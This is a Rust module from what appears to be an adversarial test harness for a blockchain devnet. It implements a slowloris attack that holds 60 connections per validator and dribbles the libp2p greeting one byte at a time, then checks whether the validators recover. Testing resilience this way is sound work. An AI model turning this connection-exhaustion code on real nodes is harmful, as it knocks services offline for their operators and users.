//! Connections that speak the first words of libp2p, a byte at a time.

use std::io::Write;
use std::net::TcpStream;
use std::time::Duration;

use super::crowd::validator_comes_back;
use crate::devnet::Outcome;
use crate::hostile::attack::{Attack, Begun, Deeds, Hand};
use crate::hostile::siege::{Siege, VALIDATORS};
use crate::hostile::sockets::{self, connect, count, is_open};

pub(super) const ATTACK: Attack = Attack {
    name: "slowloris",
    rows: "C2, P5",
    about: "60 connections to each validator that send their greeting a byte at a time",
    deed: "bytes",
    hand: Hand::PlainSockets,
    weight: 4.0,
    begin,
    during: validator_comes_back,
    ..Attack::PLAIN
};

const PER_VICTIM: usize = 60;
/// From one byte to the next.
const PACE: Duration = Duration::from_millis(400);
const WORDS: &[u8] = b"\x13/multistream/1.0.0\n\x07/noise\n\x00\x20";

fn begin(siege: &Siege, _: Duration) -> Outcome<Begun> {
    let ports: Vec<u16> = (0..VALIDATORS).map(|node| siege.peer_port(node)).collect();
    let from = siege.source;
    sockets::begin(move |stop| {
        let mut deeds = Deeds::new();
        let mut held: Vec<(u16, Option<TcpStream>, usize)> =
            ports.iter().flat_map(|port| std::iter::repeat_with(|| (*port, None, 0)).take(PER_VICTIM)).collect();
        while !stop.is_wished() {
            for (port, place, said) in &mut held {
                if !place.as_ref().is_some_and(is_open) {
                    (*place, *said) = (connect(from, *port).ok(), 0);
                    count(&mut deeds, if place.is_some() { "opened" } else { "refused" });
                }
                let (Some(stream), Some(byte)) = (place.as_mut(), WORDS.get(*said)) else { continue };
                if stream.write_all(std::slice::from_ref(byte)).is_ok() {
                    *said += 1;
                    count(&mut deeds, "bytes");
                }
            }
            let _ = stop.pause(PACE);
        }
        deeds
    })
}
